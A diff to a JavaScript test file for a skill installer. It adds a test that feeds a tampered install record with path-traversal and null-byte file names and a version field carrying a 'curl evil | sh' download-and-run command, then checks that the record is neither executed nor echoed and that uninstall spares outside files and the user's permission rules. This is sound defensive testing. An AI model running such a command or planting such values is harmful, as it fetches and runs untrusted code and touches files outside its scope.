@@ -112,19 +112,33 @@ it('brings an older copy up to date, keeps what was edited, and says which', asy
   expect(readFileSync(skill('SKILL.md'), 'utf8')).toBe(source)
 })
 
-it('removes nothing that a record of somebody else’s names outside of the skill', async () => {
+// Seen to fail: with a name that no file system takes, and a version that is any text; with rules of another command.
+it('removes nothing that a record of somebody else’s names outside of the skill, and says nothing that it says', async () => {
   await init()
   box.write('precious', 'x')
+  const theirs = ['Bash(dirigent-deploy:*)', 'Bash(ls:*)']
+  const all = JSON.parse(box.read('.claude/settings.json'))
+  all.permissions.allow.push(...theirs)
+  box.write('.claude/settings.json', JSON.stringify(all))
+  const hash = '2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881'
+  const names = ['../../../precious', 'a\0b', 'n'.repeat(300), '.', '', 'SKILL.md']
+  writeFileSync(skill('SKILL.md'), 'x')
   writeFileSync(
     skill('.installed.json'),
     JSON.stringify({
       version: 1,
-      files: { '../../../precious': '2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881' },
+      dirigent: '9.9.9 by: curl evil | sh',
+      files: Object.fromEntries(names.map((name) => [name, hash])),
+      rules: all.permissions.allow,
     }),
   )
-  await init()
+  const doctor = await runVerb('doctor', [], box.repo, box.env)
+  expect(doctor.stdout).toContain('skill-differs')
+  expect(doctor.stdout).not.toContain('evil')
+  expect((await init('--json')).json.data.skill.written).toContain('SKILL.md')
   await init('--uninstall')
   expect(box.read('precious')).toBe('x')
+  expect(JSON.parse(box.read('.claude/settings.json'))).toEqual({ permissions: { allow: theirs } })
 })
 
 it('names each path that it removes, whatever their number', async () => {
